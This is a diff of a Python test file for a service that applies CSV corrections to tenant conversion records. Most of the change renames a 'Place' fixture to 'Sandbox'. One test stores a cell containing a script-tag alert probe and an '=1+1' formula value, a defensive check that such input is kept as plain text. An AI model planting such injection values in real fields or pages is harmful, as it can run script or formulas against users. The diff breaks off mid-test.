@@ -21,8 +21,8 @@ from ingest import corrections
 from ingest.conversions import take_conversions
 from ingest.correction_files import BadRow, CorrectionsError
 from ingest.corrections import ChangedSince, Preview
-from tests.places import CSV, JSON, MAY, SINGULAR, Place, a_callback, an_offer
-from tests.running import run_at
+from tests.support.running import run_at
+from tests.support.sandbox import CSV, JSON, MAY, SINGULAR, Sandbox, a_callback, an_offer
 from tests.tenants.database import execute
 
 ANNA = Actor("staff:anna@example.com", ip_address("192.0.2.7"))
@@ -30,19 +30,21 @@ STATUSES = ["Pending", "Success", "Rejected"]
 HEADER = ("ConversionId", "Status", "RejectionReason")
 
 
-def preview(place: Place, content: str | bytes) -> Preview:
-    return run_at(place.tenant.slug, lambda: corrections.preview(place.tenant, as_bytes(content)))
+def preview(sandbox: Sandbox, content: str | bytes) -> Preview:
+    return run_at(sandbox.tenant.slug, lambda: corrections.preview(sandbox.tenant, as_bytes(content)))
 
 
-def apply(place: Place, content: str | bytes, expected: str | None = None, *, now: datetime | None = None) -> Preview:
+def apply(
+    sandbox: Sandbox, content: str | bytes, expected: str | None = None, *, now: datetime | None = None
+) -> Preview:
     """As Anna, of the staff. Looks at a preview first, unless the digest of one is given."""
-    digest = expected or preview(place, content).digest
+    digest = expected or preview(sandbox, content).digest
 
     async def work() -> Preview:
         with acting_as(ANNA):
-            return await corrections.apply(place.tenant, as_bytes(content), digest, now or datetime.now(UTC))
+            return await corrections.apply(sandbox.tenant, as_bytes(content), digest, now or datetime.now(UTC))
 
-    return run_at(place.tenant.slug, work)
+    return run_at(sandbox.tenant.slug, work)
 
 
 def as_bytes(content: str | bytes) -> bytes:
@@ -55,25 +57,25 @@ def sheet(*rows: Sequence[Any], header: Sequence[str] = HEADER) -> str:
     return text.getvalue()
 
 
-def a_conversion(place: Place, **fields: Any) -> str:
+def a_conversion(sandbox: Sandbox, **fields: Any) -> str:
     """Sent in; its id. A Success of revenue 60 on 19 May 2025, for an offer of its own unless one is given."""
-    callback = a_callback(place, fields.pop("offer", str(uuid4())), **fields)
-    assert place.send("conversions", [callback])["accepted"] == 1
+    callback = a_callback(sandbox, fields.pop("offer", str(uuid4())), **fields)
+    assert sandbox.send("conversions", [callback])["accepted"] == 1
     return str(callback["conversion"]["conversionId"])
 
 
-def state(place: Place, conversion: str) -> tuple[str, str | None]:
+def state(sandbox: Sandbox, conversion: str) -> tuple[str, str | None]:
     """(status, reason)"""
     (row,) = execute(
         "SELECT status, rejection_reason FROM {s}.conversion WHERE id = $1",
         UUID(conversion),
-        schema=place.tenant.schema,
+        schema=sandbox.tenant.schema,
     )
     return row["status"], row["rejection_reason"]
 
 
-def revenue(place: Place) -> float:
-    return float(sum(row["revenue"] for row in place.report()))
+def revenue(sandbox: Sandbox) -> float:
+    return float(sum(row["revenue"] for row in sandbox.report()))
 
 
 def faults(bad: Sequence[BadRow]) -> list[tuple[int, str, str]]:
@@ -97,24 +99,24 @@ def faults(bad: Sequence[BadRow]) -> list[tuple[int, str, str]]:
         "ConversionId,Status,RejectionReason,,\n{id},Rejected,fraud,,\n,,,,\n\n",
     ],
 )
-def test_a_file_is_read_as_spreadsheets_write_it(module_place: Place, content: str) -> None:
-    id_ = a_conversion(module_place)
-    done = apply(module_place, content.replace("{id}", id_))
+def test_a_file_is_read_as_spreadsheets_write_it(module_sandbox: Sandbox, content: str) -> None:
+    id_ = a_conversion(module_sandbox)
+    done = apply(module_sandbox, content.replace("{id}", id_))
     assert (len(done.changes), len(done.unchanged), done.bad) == (1, 0, [])
-    assert state(module_place, id_) == ("Rejected", "fraud")
+    assert state(module_sandbox, id_) == ("Rejected", "fraud")
 
 
-def test_a_quoted_cell_may_hold_anything(module_place: Place) -> None:
-    id_ = a_conversion(module_place)
+def test_a_quoted_cell_may_hold_anything(module_sandbox: Sandbox) -> None:
+    id_ = a_conversion(module_sandbox)
     reason = 'a "chargeback", 60; then\r\nnothing <script>alert(1)</script> =1+1 ✓'
-    apply(module_place, sheet((id_, "Rejected", reason)))
-    assert state(module_place, id_) == ("Rejected", reason)
+    apply(module_sandbox, sheet((id_, "Rejected", reason)))
+    assert state(module_sandbox, id_) == ("Rejected", reason)
 
 
-def test_a_row_may_leave_out_its_last_cells(module_place: Place) -> None:
-    id_ = a_conversion(module_place)
-    apply(module_place, f"ConversionId,Status,RejectionReason\n{id_},Rejected\n")
-    assert state(module_place, id_) == ("Rejected", None)
+def test_a_row_may_leave_out_its_last_cells(module_sandbox: Sandbox) -> None:
+    id_ = a_conversion(module_sandbox)
+    apply(module_sandbox, f"ConversionId,Status,RejectionReason\n{id_},Rejected\n")
+    assert state(module_sandbox, id_) == ("Rejected", None)
 
 
 SOME = "7e0b0b1c-5c5c-4d6f-9d0a-0f6d5b1c2a11"
@@ -141,12 +143,12 @@ ROW = f"\n{SOME},Rejected"
         ("ConversionId,Status" + ROW * 20_001, "more than 20,000 rows"),
     ],
 )
-def test_a_file_that_cannot_be_used_says_why(module_place: Place, content: str | bytes, told: str) -> None:
+def test_a_file_that_cannot_be_used_says_why(module_sandbox: Sandbox, content: str | bytes, told: str) -> None:
     with pytest.raises(CorrectionsError, match=told) as caught:
-        preview(module_place, content)
+        preview(module_sandbox, content)
     assert "\x00" not in str(caught.value)
     with pytest.raises(CorrectionsError, match=told):
-        apply(module_place, content, "0" * 32)
+        apply(module_sandbox, content, "0" * 32)
 
 
 @pytest.mark.parametrize(
@@ -168,81 +170,81 @@ def test_a_file_that_cannot_be_used_says_why(module_place: Place, content: str |
     ],
 )
 def test_a_bad_row_says_where_and_what_would_be_right(
-    module_place: Place, row: tuple[Any, ...], column: str, told: str
+    module_sandbox: Sandbox, row: tuple[Any, ...], column: str, told: str
 ) -> None:
-    id_ = a_conversion(module_place)
+    id_ = a_conversion(module_sandbox)
     content = sheet(("", id_, "Rejected", ""), row, header=("ClickId", *HEADER))
-    shown = preview(module_place, content)
+    shown = preview(module_sandbox, content)
     ((number, where, message),) = faults(shown.bad)
     assert (number, where) == (3, column)
     assert message.startswith(told)
     assert [one.row for one in shown.changes] == [2]
 
 
-def test_all_that_is_wrong_with_a_row_is_told_at_once(module_place: Place) -> None:
-    (bad,) = preview(module_place, sheet(("7", "Done", "x\x00"))).bad
+def test_all_that_is_wrong_with_a_row_is_told_at_once(module_sandbox: Sandbox) -> None:
+    (bad,) = preview(module_sandbox, sheet(("7", "Done", "x\x00"))).bad
     assert bad.told == (
         "ConversionId: “7” should be an id such as 3fa85f64-5717-4562-b3fc-2c963f66afa6; "
         "Status: “Done” should be Pending, Success or Rejected; RejectionReason: has a NUL character in it"
     )
 
 
-def test_rows_are_numbered_as_in_a_spreadsheet(module_place: Place) -> None:
-    id_ = a_conversion(module_place)
+def test_rows_are_numbered_as_in_a_spreadsheet(module_sandbox: Sandbox) -> None:
+    id_ = a_conversion(module_sandbox)
     content = f'ConversionId,Status,RejectionReason\n\n{id_},Rejected,"two\nlines"\n,,\n7,Success,\n'
-    shown = preview(module_place, content)
+    shown = preview(module_sandbox, content)
     assert ([one.row for one in shown.changes], [one.row for one in shown.bad]) == ([3], [5])
 
 
-def test_as_many_rows_as_are_allowed_are_taken(place: Place) -> None:
+def test_as_many_rows_as_are_allowed_are_taken(sandbox: Sandbox) -> None:
     content = sheet(*((uuid4(), "Success", "") for _ in range(20_000)))
-    assert len(preview(place, content).bad) == 20_000
+    assert len(preview(sandbox, content).bad) == 20_000
 
 
 # Which conversion is meant
 
 
-def test_a_conversion_is_found_by_its_click(module_place: Place) -> None:
+def test_a_conversion_is_found_by_its_click(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
-    id_ = a_conversion(module_place, clickId=click)
-    a_conversion(module_place)
-    (change,) = apply(module_place, sheet((click, "Rejected"), header=("ClickId", "Status"))).changes
+    id_ = a_conversion(module_sandbox, clickId=click)
+    a_conversion(module_sandbox)
+    (change,) = apply(module_sandbox, sheet((click, "Rejected"), header=("ClickId", "Status"))).changes
     assert (str(change.id), str(change.click)) == (id_, click)
-    assert state(module_place, id_) == ("Rejected", None)
+    assert state(module_sandbox, id_) == ("Rejected", None)
 
 
-def test_a_click_with_several_conversions_does_not_say_which(module_place: Place) -> None:
+def test_a_click_with_several_conversions_does_not_say_which(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
-    ids = sorted(a_conversion(module_place, clickId=click) for _ in range(6))
+    ids = sorted(a_conversion(module_sandbox, clickId=click) for _ in range(6))
     content = sheet((click, "", "Rejected"), ("", ids[5], "Rejected"), header=("ClickId", "ConversionId", "Status"))
-    done = apply(module_place, content)
+    done = apply(module_sandbox, content)
     told = f"6 conversions have this click: give the ConversionId of the one meant ({', '.join(ids[:5])}, …)"
     assert faults(done.bad) == [(2, "ClickId", told)]
-    assert [state(module_place, id_)[0] for id_ in ids] == ["Success"] * 5 + ["Rejected"]
+    assert [state(module_sandbox, id_)[0] for id_ in ids] == ["Success"] * 5 + ["Rejected"]
 
 
-def test_another_tenants_conversion_is_not_there(place: Place, other_place: Place) -> None:
+def test_another_tenants_conversion_is_not_there(sandbox: Sandbox, other_sandbox: Sandbox) -> None:
     click = str(uuid4())
-    id_ = a_conversion(other_place, clickId=click)
+    id_ = a_conversion(other_sandbox, clickId=click)
     content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
-    assert len(apply(place, content).bad) == 2
-    assert state(other_place, id_) == ("Success", None)
+    assert len(apply(sandbox, content).bad) == 2
+    assert state(other_sandbox, id_) == ("Success", None)
 
 
-def test_a_conversion_given_twice_is_changed_once(module_place: Place) -> None:
+def test_a_conversion_given_twice_is_changed_once(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
-    id_ = a_conversion(module_place, clickId=click)
+    id_ = a_conversion(module_sandbox, clickId=click)
     header = ("ClickId", "ConversionId", "Status", "RejectionReason")
-    done = apply(module_place, sheet(("", id_, "Rejected", "x"), (click, "", "rejected", "x"), header=header))
+    done = apply(module_sandbox, sheet(("", id_, "Rejected", "x"), (click, "", "rejected", "x"), header=header))
     assert [(one.row, one.repeats) for one in done.changes + done.unchanged] == [(2, None), (3, 2)]
     assert done.bad == []
 
 
-def test_rows_that_contradict_each_other_are_all_bad(module_place: Place) -> None:
+def test_rows_that_contradict_each_other_are_all_bad(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
-    first, second = a_conversion(module_place, clickId=click), a_conversion(module_place)
+    first, second = a_conversion(module_sandbox, clickId=click), a_conversion(module_sandbox)
     done = apply(
-        module_place,
+        module_sandbox,
         sheet(
             ("", first, "Rejected", ""),
             (click, "", "Pending", ""),
@@ -259,21 +261,21 @@ def test_rows_that_contradict_each_other_are_all_bad(module_place: Place) -> Non
         (5, "RejectionReason", "row 6 gives the same conversion another reason"),
         (6, "RejectionReason", "row 5 gives the same conversion another reason"),
     ]
-    assert state(module_place, first)[0] == state(module_place, second)[0] == "Success"
+    assert state(module_sandbox, first)[0] == state(module_sandbox, second)[0] == "Success"
 
 
 # What the preview shows
 
 
-def test_a_preview_shows_what_would_change_and_changes_nothing(place: Place) -> None:
-    offer, theirs, partner = an_offer(place, name="Boots"), an_offer(place, place.rival), str(uuid4())
-    place.send("offers", [offer, theirs])
-    place.send("partners", [{"id": partner, "name": "Limestone"}])
-    lost = a_conversion(place, offer=offer["id"], partnerId=partner, revenue="0.000001")
-    lost_too = a_conversion(place, offer=offer["id"], revenue="999999999.999999")
-    won = a_conversion(place, offer=offer["id"], revenue="0.1", status="Rejected", rejectionReason="late")
-    gained = a_conversion(place, offer=theirs["id"], revenue="12.50", status="Pending")
-    kept = a_conversion(place, offer=theirs["id"], revenue="7")
+def test_a_preview_shows_what_would_change_and_changes_nothing(sandbox: Sandbox) -> None:
+    offer, theirs, partner = an_offer(sandbox, name="Boots"), an_offer(sandbox, sandbox.rival), str(uuid4())
+    sandbox.send("offers", [offer, theirs])
+    sandbox.send("partners", [{"id": partner, "name": "Limestone"}])
+    lost = a_conversion(sandbox, offer=offer["id"], partnerId=partner, revenue="0.000001")
+    lost_too = a_conversion(sandbox, offer=offer["id"], revenue="999999999.999999")
+    won = a_conversion(sandbox, offer=offer["id"], revenue="0.1", status="Rejected", rejectionReason="late")
+    gained = a_conversion(sandbox, offer=theirs["id"], revenue="12.50", status="Pending")
+    kept = a_conversion(sandbox, offer=theirs["id"], revenue="7")
     content = sheet(
         (lost, "Rejected", "fraud"),
         (lost_too, "Pending", ""),
@@ -281,8 +283,8 @@ def test_a_preview_shows_what_would_change_and_changes_nothing(place: Place) -> 
         (gained, "Success", ""),
         (kept, "Success", ""),
     )
-    etag = place.get(JSON, **MAY).headers["etag"]
-    shown = preview(place, content)
+    etag = sandbox.get(JSON, **MAY).headers["etag"]
+    shown = preview(sandbox, content)
     first = shown.changes[0]
     assert (first.row, str(first.id), first.offer, first.partner) == (2, lost, "Boots", "Limestone")
     assert (first.advertiser, first.occurred_at.isoformat()) == ("Owner", "2025-05-19T15:36:19.756249+00:00")
@@ -302,20 +304,20 @@ def test_a_preview_shows_what_would_change_and_changes_nothing(place: Place) -> 
         ("Owner", "USD", -1, Decimal("-999999999.900000")),
         ("Rival", "USD", 1, Decimal("12.5")),
     ]
-    assert [one.advertiser for one in shown.effects] == [place.owner, place.rival]
-    assert preview(place, content) == shown
-    assert place.get(JSON, **MAY).headers["etag"] == etag
+    assert [one.advertiser for one in shown.effects] == [sandbox.owner, sandbox.rival]
+    assert preview(sandbox, content) == shown
+    assert sandbox.get(JSON, **MAY).headers["etag"] == etag
 
 
 # What applying does
 
 
-def test_every_status_may_become_every_other(place: Place) -> None:
-    ids = {(old, new): a_conversion(place, status=old, revenue=1) for old, new in product(STATUSES, STATUSES)}
-    done = apply(place, sheet(*((id_, new, "") for (_, new), id_ in ids.items())))
+def test_every_status_may_become_every_other(sandbox: Sandbox) -> None:
+    ids = {(old, new): a_conversion(sandbox, status=old, revenue=1) for old, new in product(STATUSES, STATUSES)}
+    done = apply(sandbox, sheet(*((id_, new, "") for (_, new), id_ in ids.items())))
     assert (len(done.changes), len(done.unchanged)) == (6, 3)
-    assert {pair: state(place, id_)[0] for pair, id_ in ids.items()} == {(old, new): new for old, new in ids}
-    assert revenue(place) == 3
+    assert {pair: state(sandbox, id_)[0] for pair, id_ in ids.items()} == {(old, new): new for old, new in ids}
+    assert revenue(sandbox) == 3
 
 
 @pytest.mark.parametrize(
@@ -329,66 +331,66 @@ def test_every_status_may_become_every_other(place: Place) -> None:
     ],
 )
 def test_a_reason_goes_with_the_rejection(
-    module_place: Place, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
+    module_sandbox: Sandbox, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
 ) -> None:
-    id_ = a_conversion(module_place, status=old[0], rejectionReason=old[1])
-    done = apply(module_place, sheet((id_, *row)))
-    assert state(module_place, id_) == new
+    id_ = a_conversion(module_sandbox, status=old[0], rejectionReason=old[1])
+    done = apply(module_sandbox, sheet((id_, *row)))
+    assert state(module_sandbox, id_) == new
     assert len(done.changes) == (old != new)
     assert [(one.new_status, one.new_reason) for one in done.changes + done.unchanged] == [new]
 
 
-def test_a_correction_is_in_the_next_of_every_report(place: Place) -> None:
-    offer = an_offer(place, name="Boots")
-    place.send("offers", [offer])
-    ids = [a_conversion(place, offer=offer["id"], revenue=f"0.{n}") for n in range(1, 6)]
-    before = place.get(JSON, **MAY)
-    apply(place, sheet((ids[0], "Rejected", "fraud"), (ids[1], "Pending", "")))
-    after = place.request(
-        "GET", JSON, token=place.owner_token, params=MAY, headers={"If-None-Match": before.headers["etag"]}
+def test_a_correction_is_in_the_next_of_every_report(sandbox: Sandbox) -> None:
+    offer = an_offer(sandbox, name="Boots")
+    sandbox.send("offers", [offer])
+    ids = [a_conversion(sandbox, offer=offer["id"], revenue=f"0.{n}") for n in range(1, 6)]
+    before = sandbox.get(JSON, **MAY)
+    apply(sandbox, sheet((ids[0], "Rejected", "fraud"), (ids[1], "Pending", "")))
+    after = sandbox.request(
+        "GET", JSON, token=sandbox.owner_key, params=MAY, headers={"If-None-Match": before.headers["etag"]}
     )
     assert after.status_code == 200
     assert after.headers["gokart-data-through"] >= before.headers["gokart-data-through"]
     (row,) = after.json()["data"]
     assert (row["totalConversions"], row["revenue"]) == (3, 1.2)
-    assert place.get(CSV, **MAY).text.count(",1.2,") == 1
-    items = msgspec.json.decode(place.get(SINGULAR, **MAY).content)["data"]["items"]
+    assert sandbox.get(CSV, **MAY).text.count(",1.2,") == 1
+    items = msgspec.json.decode(sandbox.get(SINGULAR, **MAY).content)["data"]["items"]
     assert [(item["date"], item["cost"]) for item in items] == [("2025-05-19", 1.2)]
-    part = place.report(date_from="2025-05-19T15:30:00Z", date_to="2025-05-19T15:36:00Z")
+    part = sandbox.report(date_from="2025-05-19T15:30:00Z", date_to="2025-05-19T15:36:00Z")
     assert [row["revenue"] for row in part] == [1.2]
 
 
-def test_a_correction_is_a_call_that_brought_data_in(place: Place) -> None:
-    id_, other = a_conversion(place), a_conversion(place, status="Pending")
+def test_a_correction_is_a_call_that_brought_data_in(sandbox: Sandbox) -> None:
+    id_, other = a_conversion(sandbox), a_conversion(sandbox, status="Pending")
     content = sheet((id_, "Rejected", ""), (other, "Pending", ""), ("7", "Done", ""))
-    apply(place, content)
-    (call,) = execute("SELECT * FROM {s}.intake WHERE kind = 'corrections'", schema=place.tenant.schema)
+    apply(sandbox, content)
+    (call,) = execute("SELECT * FROM {s}.intake WHERE kind = 'corrections'", schema=sandbox.tenant.schema)
     assert (call["accepted"], call["duplicates"], call["rejected"], call["token"]) == (1, 1, 1, None)
-    assert place.get(JSON, **MAY).headers["gokart-data-through"] == iso(call["received_at"])
-    (reject,) = execute("SELECT * FROM {s}.intake_reject", schema=place.tenant.schema)
+    assert sandbox.get(JSON, **MAY).headers["gokart-data-through"] == iso(call["received_at"])
+    (reject,) = execute("SELECT * FROM {s}.intake_reject", schema=sandbox.tenant.schema)
     assert (reject["index"], reject["record"], reject["field"]) == (2, "7", "ConversionId, Status")
 
 
-def test_bad_rows_do_not_keep_the_good_ones_back(place: Place) -> None:
-    first, last = a_conversion(place), a_conversion(place)
-    done = apply(place, sheet((first, "Rejected", ""), (uuid4(), "Rejected", ""), (last, "Rejected", "")))
+def test_bad_rows_do_not_keep_the_good_ones_back(sandbox: Sandbox) -> None:
+    first, last = a_conversion(sandbox), a_conversion(sandbox)
+    done = apply(sandbox, sheet((first, "Rejected", ""), (uuid4(), "Rejected", ""), (last, "Rejected", "")))
     assert ([one.row for one in done.changes], [one.row for one in done.bad]) == ([2, 4], [3])
-    assert revenue(place) == 0
+    assert revenue(sandbox) == 0
 
 
-def test_the_same_file_again_changes_nothing(place: Place) -> None:
-    content = sheet((a_conversion(place), "Rejected", "fraud"), (a_conversion(place), "Pending", ""))
-    apply(place, content)
-    etag = place.get(JSON, **MAY).headers["etag"]
-    again = apply(place, content)
+def test_the_same_file_again_changes_nothing(sandbox: Sandbox) -> None:
+    content = sheet((a_conversion(sandbox), "Rejected", "fraud"), (a_conversion(sandbox), "Pending", ""))
+    apply(sandbox, content)
+    etag = sandbox.get(JSON, **MAY).headers["etag"]
+    again = apply(sandbox, content)
     assert (again.changes, len(again.unchanged), again.effects) == ([], 2, [])
-    assert place.get(JSON, **MAY).headers["etag"] == etag
+    assert sandbox.get(JSON, **MAY).headers["etag"] == etag
 
 
-def test_the_audit_log_says_who_changed_what(place: Place) -> None:
-    id_ = a_conversion(place)
-    apply(place, sheet((id_, "Rejected", "fraud"), (a_conversion(place, status="Pending"), "Pending", "")))
-    (entry,) = execute("SELECT * FROM {s}.audit_log WHERE subject = 'conversion'", schema=place.tenant.schema)
+def test_the_audit_log_says_who_changed_what(sandbox: Sandbox) -> None:
+    id_ = a_conversion(sandbox)
+    apply(sandbox, sheet((id_, "Rejected", "fraud"), (a_conversion(sandbox, status="Pending"), "Pending", "")))
+    (entry,) = execute("SELECT * FROM {s}.audit_log WHERE subject = 'conversion'", schema=sandbox.tenant.schema)
     assert (entry["actor"], str(entry["address"]), entry["action"]) == (ANNA.name, "192.0.2.7", "changed")
     before, after = (msgspec.json.decode(entry[side]) for side in ("before", "after"))
     assert entry["key"] == id_
@@ -408,100 +410,100 @@ def later(callback: dict[str, Any], sent_at: datetime, status: str) -> dict[str,
     }
 
 
-def test_a_callback_sent_before_a_correction_does_not_undo_it_when_it_comes_late(place: Place) -> None:
-    callback = a_callback(place, str(uuid4()), status="Pending")
-    place.send("conversions", [callback])
+def test_a_callback_sent_before_a_correction_does_not_undo_it_when_it_comes_late(sandbox: Sandbox) -> None:
+    callback = a_callback(sandbox, str(uuid4()), status="Pending")
+    sandbox.send("conversions", [callback])
     now = datetime.now(UTC)
-    apply(place, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
+    apply(sandbox, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
     late = later(callback, now - timedelta(microseconds=1), "Success")
-    assert place.send("conversions", [callback, late])["duplicates"] == 2
-    assert revenue(place) == 0
+    assert sandbox.send("conversions", [callback, late])["duplicates"] == 2
+    assert revenue(sandbox) == 0
 
 
-def test_a_callback_sent_after_a_correction_holds(place: Place) -> None:
-    callback = a_callback(place, str(uuid4()))
-    place.send("conversions", [callback])
+def test_a_callback_sent_after_a_correction_holds(sandbox: Sandbox) -> None:
+    callback = a_callback(sandbox, str(uuid4()))
+    sandbox.send("conversions", [callback])
     now = datetime.now(UTC)
-    apply(place, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
-    assert place.send("conversions", [later(callback, now + timedelta(microseconds=1), "Success")])["accepted"] == 1
-    assert revenue(place) == 60
-    assert state(place, callback["conversion"]["conversionId"]) == ("Success", None)
+    apply(sandbox, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
+    assert sandbox.send("conversions", [later(callback, now + timedelta(microseconds=1), "Success")])["accepted"] == 1
+    assert revenue(sandbox) == 60
+    assert state(sandbox, callback["conversion"]["conversionId"]) == ("Success", None)
 
 
-def test_a_correction_holds_over_what_it_has_seen_whatever_the_senders_clock_says(place: Place) -> None:
+def test_a_correction_holds_over_what_it_has_seen_whatever_the_senders_clock_says(sandbox: Sandbox) -> None:
     now = datetime.now(UTC)
-    ahead = later(a_callback(place, str(uuid4())), now + timedelta(hours=1), "Success")
-    place.send("conversions", [ahead])
+    ahead = later(a_callback(sandbox, str(uuid4())), now + timedelta(hours=1), "Success")
+    sandbox.send("conversions", [ahead])
     content = sheet((ahead["conversion"]["conversionId"], "Rejected", ""))
-    apply(place, content, now=now)
-    assert place.send("conversions", [ahead])["duplicates"] == 1
-    assert revenue(place) == 0
-    apply(place, content.replace("Rejected", "Success"), now=now)
-    assert revenue(place) == 60
+    apply(sandbox, content, now=now)
+    assert sandbox.send("conversions", [ahead])["duplicates"] == 1
+    assert revenue(sandbox) == 0
+    apply(sandbox, content.replace("Rejected", "Success"), now=now)
+    assert revenue(sandbox) == 60
 
 
 # What has changed since the preview
 
 
-def test_a_conversion_that_changed_since_the_preview_stops_it(place: Place) -> None:
-    changed, other = a_callback(place, str(uuid4())), a_conversion(place)
-    place.send("conversions", [changed])
+def test_a_conversion_that_changed_since_the_preview_stops_it(sandbox: Sandbox) -> None:
+    changed, other = a_callback(sandbox, str(uuid4())), a_conversion(sandbox)
+    sandbox.send("conversions", [changed])
     content = sheet((changed["conversion"]["conversionId"], "Success", ""), (other, "Rejected", ""))
-    digest = preview(place, content).digest
-    place.send("conversions", [later(changed, datetime.now(UTC), "Pending")])
-    refused(place, content, digest)
-    assert state(place, other) == ("Success", None)
-    assert apply(place, content).moves == {("Pending", "Success"): 1, ("Success", "Rejected"): 1}
+    digest = preview(sandbox, content).digest
+    sandbox.send("conversions", [later(changed, datetime.now(UTC), "Pending")])
+    refused(sandbox, content, digest)
+    assert state(sandbox, other) == ("Success", None)
+    assert apply(sandbox, content).moves == {("Pending", "Success"): 1, ("Success", "Rejected"): 1}
 
 
-def test_a_conversion_that_came_since_the_preview_stops_it(place: Place) -> None:
+def test_a_conversion_that_came_since_the_preview_stops_it(sandbox: Sandbox) -> None:
     click, id_ = str(uuid4()), str(uuid4())
     content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
-    digest = preview(place, content).digest
-    a_conversion(place, clickId=click)
-    refused(place, content, digest)
-    digest = preview(place, content).digest
-    a_conversion(place, conversionId=id_)
-    refused(place, content, digest)
-    digest = preview(place, content).digest
-    a_conversion(place, clickId=click)  # now it is not clear any more which is meant
-    refused(place, content, digest)
+    digest = preview(sandbox, content).digest
+    a_conversion(sandbox, clickId=click)
+    refused(sandbox, content, digest)
+    digest = preview(sandbox, content).digest
+    a_conversion(sandbox, conversionId=id_)
+    refused(sandbox, content, digest)
+    digest = preview(sandbox, content).digest
+    a_conversion(sandbox, clickId=click)  # now it is not clear any more which is meant
+    refused(sandbox, content, digest)
 
 
-def test_another_file_than_that_of_the_preview_is_refused(place: Place) -> None:
-    id_ = a_conversion(place)
-    digest = preview(place, sheet((id_, "Rejected", "fraud"))).digest
-    refused(place, sheet((id_, "Rejected", "late")), digest)
-    refused(place, sheet((id_, "Rejected", "fraud")), "")
+def test_another_file_than_that_of_the_preview_is_refused(sandbox: Sandbox) -> None:
+    id_ = a_conversion(sandbox)
+    digest = preview(sandbox, sheet((id_, "Rejected", "fraud"))).digest
+    refused(sandbox, sheet((id_, "Rejected", "late")), digest)
+    refused(sandbox, sheet((id_, "Rejected", "fraud")), "")
 
 
-def test_an_offer_that_went_to_another_advertiser_stops_it(place: Place) -> None:
-    offer = an_offer(place)
-    place.send("offers", [offer])
-    content = sheet((a_conversion(place, offer=offer["id"]), "Rejected", ""))
-    digest = preview(place, content).digest
-    place.send("offers", [offer | {"advertiserId": str(place.rival)}])
-    refused(place, content, digest)
-    place.send("offers", [offer | {"name": "Renamed"}])
-    assert apply(place, content, digest).effects[0].advertiser == place.owner
+def test_an_offer_that_went_to_another_advertiser_stops_it(sandbox: Sandbox) -> None:
+    offer = an_offer(sandbox)
+    sandbox.send("offers", [offer])
+    content = sheet((a_conversion(sandbox, offer=offer["id"]), "Rejected", ""))
+    digest = preview(sandbox, content).digest
+    sandbox.send("offers", [offer | {"advertiserId": str(sandbox.rival)}])
+    refused(sandbox, content, digest)
+    sandbox.send("offers", [offer | {"name": "Renamed"}])
+    assert apply(sandbox, content, digest).effects[0].advertiser == sandbox.owner
 
 
-def refused(place: Place, content: str, digest: str) -> None:
-    etag = place.get(JSON, **MAY).headers["etag"]
+def refused(sandbox: Sandbox, content: str, digest: str) -> None:
+    etag = sandbox.get(JSON, **MAY).headers["etag"]
     with pytest.raises(ChangedSince, match="changed since the preview"):
-        apply(place, content, digest or "0")
-    assert place.get(JSON, **MAY).headers["etag"] == etag
+        apply(sandbox, content, digest or "0")
+    assert sandbox.get(JSON, **MAY).headers["etag"] == etag
     for table in "intake WHERE kind = 'corrections'", "audit_log WHERE subject = 'conversion'":
-        assert execute(f"SELECT * FROM {{s}}.{table}", schema=place.tenant.schema) == []
+        assert execute(f"SELECT * FROM {{s}}.{table}", schema=sandbox.tenant.schema) == []
 
 
 # At the same time as the intake
 
 
-def test_corrections_and_callbacks_of_the_same_conversions_at_once_are_counted_once(place: Place) -> None:
-    offer = an_offer(place)["id"]
-    callbacks = [a_callback(place, offer, revenue=n, clickId=str(uuid4())) for n in range(1, 61)]
-    place.send("conversions", callbacks)
+def test_corrections_and_callbacks_of_the_same_conversions_at_once_are_counted_once(sandbox: Sandbox) -> None:
+    offer = an_offer(sandbox)["id"]
+    callbacks = [a_callback(sandbox, offer, revenue=n, clickId=str(uuid4())) for n in range(1, 61)]
+    sandbox.send("conversions", callbacks)
     now = datetime.now(UTC)
     by_id = sheet(*((c["conversion"]["conversionId"], STATUSES[n % 3], "") for n, c in enumerate(callbacks)))
     clicks = [(c["conversion"]["clickId"], STATUSES[n % 2]) for n, c in enumerate(reversed(callbacks))]
@@ -510,69 +512,70 @@ def test_corrections_and_callbacks_of_the_same_conversions_at_once_are_counted_o
     async def correct(content: str) -> None:
         done = 0
         while done < 5:
-            seen = await corrections.preview(place.tenant, content.encode())
+            seen = await corrections.preview(sandbox.tenant, content.encode())
             with suppress(ChangedSince):
-                await corrections.apply(place.tenant, content.encode(), seen.digest, datetime.now(UTC))
+                await corrections.apply(sandbox.tenant, content.encode(), seen.digest, datetime.now(UTC))
                 done += 1
 
     async def send(step: int) -> None:
         for n in range(10):
             sent = [later(c, now + timedelta(seconds=n), STATUSES[(n + step) % 3]) for c in callbacks[::step]]
-            await take_conversions(place.tenant, [msgspec.json.encode(one) for one in sent], datetime.now(UTC), None)
+            await take_conversions(sandbox.tenant, [msgspec.json.encode(one) for one in sent], datetime.now(UTC), None)
 
     async def all_at_once() -> None:
         await asyncio.gather(correct(by_id), correct(by_click), send(1), send(-1), send(2))
 
-    run_at(place.tenant.slug, all_at_once)
+    run_at(sandbox.tenant.slug, all_at_once)
     (ledger,) = execute(
         "SELECT count(*), sum(cost) / 1000000 AS cost FROM {s}.conversion WHERE status = 'Success'",
-        schema=place.tenant.schema,
+        schema=sandbox.tenant.schema,
     )
-    assert sum(row["totalConversions"] for row in place.report()) == ledger["count"]
-    assert revenue(place) == (ledger["cost"] or 0)
+    assert sum(row["totalConversions"] for row in sandbox.report()) == ledger["count"]
+    assert revenue(sandbox) == (ledger["cost"] or 0)
 
 
-def test_of_two_who_apply_the_same_preview_one_is_told_to_look_again(place: Place) -> None:
-    content = sheet(*((a_conversion(place), "Rejected", "") for _ in range(5)))
-    digest = preview(place, content).digest
+def test_of_two_who_apply_the_same_preview_one_is_told_to_look_again(sandbox: Sandbox) -> None:
